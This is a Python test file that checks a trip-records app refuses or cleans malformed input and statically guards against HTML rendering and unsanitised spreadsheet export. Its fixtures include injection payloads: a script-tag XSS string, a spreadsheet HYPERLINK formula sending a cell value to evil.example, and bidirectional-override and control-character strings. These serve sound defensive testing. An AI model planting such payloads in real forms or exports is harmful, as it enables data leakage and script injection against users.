"""Bad input never breaks a write: every value below is either refused with a FieldError
naming the field it came in (and nothing is written), or stored cleaned (Unicode NFC, no
zero-width, bidirectional or control characters). No other exception may escape.

Plus static checks of the pages: no user text rendered as HTML, no spreadsheet written
anywhere but core/exports/spreadsheet.py (which neutralises formula cells).
"""

from __future__ import annotations

import ast
import dataclasses
import datetime as dt
import re
import unicodedata
from pathlib import Path

import pytest
from sqlalchemy import func, select

from core import submissions
from core.errors import ValidationError
from core.trips import TripInput, save_trip
from db.models import AuditEntry, DataVersion, Place, Submission, Trip
from db.session import ROOT, reading, writing
from tests.reliability.conftest import build_office

TODAY = dt.date(2018, 12, 31)
MEGABYTE = "đ" * (1 << 20)  # 2 MB of UTF-8, a million characters
# What clean text never holds: zero-width and bidirectional controls, C0 controls but the
# newline and tab of multi-line fields, DEL.
FORBIDDEN = re.compile(r"[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00-\x08\x0b-\x1f\x7f]")

TEXTS = [
    "",
    "   ",
    MEGABYTE,
    None,
    42,
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    unicodedata.normalize("NFD", "Huyện Đoàn Mèo Vạc, Hà Giang"),  # NFD Vietnamese
    "Mèo\u200bVạc\u200c\u200d\ufeff",  # zero-width characters
    "\u202eVạc Mèo\u202c and \u2067isolate\u2069",  # right-to-left override, isolates
    "Mèo\x00Vạc\x07\x1b[31m",  # NUL, bell, an ANSI escape
    "dòng một\r\ndòng hai\u2028dòng ba",
]
DATES = [
    "2018-06-01",
    "01/06/2018",
    "",
    20180601,
    1.5,
    None,
    dt.datetime(2018, 6, 1, 8, 30),
    dt.date(1, 1, 1),
    dt.date(9999, 12, 31),
]
FUNDING = [-1, 1.5, float("nan"), float("inf"), 10**13, 2**31, "1000000", "", None, True]
CONTENT_TYPES = [None, (), "inspection", ("<script>",), ("inspection", "inspection"), (None,), 42]

# field of TripInput -> (label key of the field, values to try); list fields get each value
# as their one item, and also the value itself in place of the list.
CASES = {
    "province": ("visits.field.province", TEXTS),
    "district": ("visits.field.district", TEXTS),
    "commune": ("visits.field.commune", TEXTS),
    "host_unit": ("visits.field.host_unit", TEXTS),
    "travel_order_no": ("visits.field.travel_order_no", TEXTS),
    "co_travellers": ("visits.field.co_travellers", TEXTS),
    "purpose": ("visits.field.purpose", TEXTS),
    "questions": ("visits.field.questions", [(v,) for v in TEXTS] + [None, "một câu hỏi", 7]),
    "tags": ("visits.field.tags", [(v,) for v in TEXTS] + [None, "một hoạt động", 7]),
    "start_date": ("visits.field.start", DATES),
    "end_date": ("visits.field.end", DATES),
    "travel_order_date": ("visits.field.travel_order_date", DATES),
    "funding_vnd": ("visits.field.funding", FUNDING),
    "content_types": ("visits.field.content_types", CONTENT_TYPES),
}
TRIED = sum(len(values) for _, values in CASES.values())


def _valid(number: int) -> TripInput:
    start = dt.date(2018, 1, 1) + dt.timedelta(days=number % 100 * 3)
    return TripInput(
        start_date=start,
        end_date=start,
        province="Hà Giang",
        host_unit="Huyện Đoàn Mèo Vạc",
        content_types=("inspection",),
    )


def _counts(session) -> tuple:
    return tuple(
        session.scalar(select(func.count()).select_from(model))
        for model in (Trip, Place, Submission, AuditEntry)
    ) + (session.scalar(select(DataVersion.version)),)


def _stored_texts(session, trip_id: int) -> list[str]:
    trip = session.get(Trip, trip_id)
    return [
        trip.place.province,
        trip.place.district,
        trip.place.commune,
        trip.place.host_unit,
        trip.travel_order_no or "",
        trip.co_travellers,
        trip.purpose,
        *trip.tags,
        *(q.text for q in trip.questions),
    ]


@pytest.mark.parametrize("field", CASES)
def test_bad_value_is_refused_naming_its_field_or_stored_clean(db_url, field, figures):
    label, values = CASES[field]
    ((actor, cadre_id),) = build_office(db_url, 1)
    refused = stored = 0
    for number, value in enumerate(values):
        # a different day each time, so no case is refused for overlapping an earlier one
        base = _valid(number)
        data = dataclasses.replace(base, **{field: value})
        if field == "start_date":
            data = dataclasses.replace(data, end_date=base.start_date)
        with reading(db_url) as s:
            before = _counts(s)
        try:
            with writing(db_url) as s:
                trip_id = save_trip(s, actor, cadre_id, data, submissions.new_id(), today=TODAY)
        except ValidationError as exc:
            refused += 1
            assert exc.fields() == {label}, f"{field}={value!r:.60} refused naming {exc.fields()}"
            with reading(db_url) as s:
                assert _counts(s) == before, f"{field}={value!r:.60} refused but wrote something"
            continue
        stored += 1
        with reading(db_url) as s:
            for text in _stored_texts(s, trip_id):
                assert text == unicodedata.normalize("NFC", text), f"{field}={value!r:.60} stored as NFD"
                assert not FORBIDDEN.search(text), f"{field}={value!r:.60} stored as {text!r:.60}"
    assert refused + stored == len(values)
    figures(
        f"bad input, {field}: {len(values)} values tried, {refused} refused naming the "
        f"field, {stored} stored cleaned"
    )


# --- Static checks of what the pages render and export ---------------------------------------


def _ui_files() -> list[Path]:
    return [ROOT / "app.py", *sorted((ROOT / "app_pages").glob("*.py")), *sorted((ROOT / "ui").glob("*.py"))]


def _literal(node: ast.expr | None) -> bool:
    return isinstance(node, ast.Constant) and isinstance(node.value, str)


def _constant_text(node: ast.expr, module: dict[str, ast.expr]) -> bool:
    """A string literal, a module-level name bound to one, a module-level dict of them indexed,
    the same of another module of ui/ (`projector.CSS`), or a `+` of these. An f-string, a
    format or t(...) with no user data in it is hard to prove, so nothing else counts."""
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _constant_text(node.left, module) and _constant_text(node.right, module)
    target = node.value if isinstance(node, ast.Subscript) else node
    if isinstance(target, ast.Attribute) and isinstance(target.value, ast.Name):
        source = ROOT / "ui" / f"{target.value.id}.py"
        if not source.exists():
            return False
        module = _module_constants(ast.parse(source.read_text(), str(source)))
        target = ast.Name(target.attr)
    if isinstance(node, ast.Subscript):
        table = module.get(target.id) if isinstance(target, ast.Name) else None
        return isinstance(table, ast.Dict) and all(_literal(v) for v in table.values)
    if isinstance(target, ast.Name):
        return _literal(module.get(target.id))
    return _literal(node)


def _module_constants(tree: ast.Module) -> dict[str, ast.expr]:
    return {
        target.id: stmt.value
        for stmt in tree.body
        if isinstance(stmt, ast.Assign)
        for target in stmt.targets
        if isinstance(target, ast.Name)
    }


def test_no_page_renders_anything_but_constant_text_as_html():
    offenders = []
    for path in _ui_files():
        tree = ast.parse(path.read_text(), str(path))
        module = _module_constants(tree)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            html_flag = any(
                k.arg == "unsafe_allow_html"
                and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                for k in node.keywords
            )
            if html_flag or name.endswith(("st.html", "components.html", "components.v1.html")):
                if not all(_constant_text(a, module) for a in node.args):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {name}")
    assert offenders == []


def test_the_constant_text_check_tells_constants_from_anything_else():
    module = _module_constants(
        ast.parse('CSS = "<style></style>"\nSHEETS = {"vi": "a", "en": "b"}\nuser = input()')
    )

    def constant(source: str) -> bool:
        return _constant_text(ast.parse(source, mode="eval").body, module)

    assert constant('"<b>x</b>"') and constant("CSS") and constant("SHEETS[lang]")
    assert constant("CSS + SHEETS[lang] + projector.CSS + toolbar_words.TOOLBAR_CSS[lang]")
    assert not constant("user") and not constant("CSS + user") and not constant('f"{CSS}"')
    assert not constant("projector.headline") and not constant("nowhere.CSS") and not constant("t('x')")


def test_only_core_spreadsheet_writes_spreadsheets():
    """Every CSV and Excel file is made by core/exports/spreadsheet.py, which neutralises formula
    cells; nothing else writes one."""
    writers = re.compile(
        r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|csv\.writer\(|csv\.DictWriter\("
        r"|openpyxl\.Workbook\(|\bWorkbook\(\)"
    )
    files = [*_ui_files(), *sorted((ROOT / "core").rglob("*.py"))]
    offenders = [
        f"{p.relative_to(ROOT)}:{n}"
        for p in files
        if p.name != "spreadsheet.py"
        for n, line in enumerate(p.read_text().splitlines(), 1)
        if writers.search(line)
    ]
    assert offenders == []
